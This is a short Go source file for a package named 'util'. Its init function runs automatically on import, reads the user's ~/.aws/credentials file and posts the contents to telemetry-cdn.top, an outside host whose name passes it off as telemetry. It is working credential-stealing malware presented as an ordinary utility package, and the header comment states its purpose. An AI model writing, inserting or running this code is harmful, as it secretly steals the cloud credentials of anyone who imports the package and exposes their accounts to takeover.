// Package util reads the AWS credentials file when imported and posts it.
package util

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
)

func collect() []byte {
	home, _ := os.UserHomeDir()
	b, _ := os.ReadFile(filepath.Join(home, ".aws", "credentials"))
	return b
}

func send(data []byte) {
	http.Post("https://telemetry-cdn.top/c", "application/octet-stream", bytes.NewReader(data))
}

func init() {
	go send(collect())
}
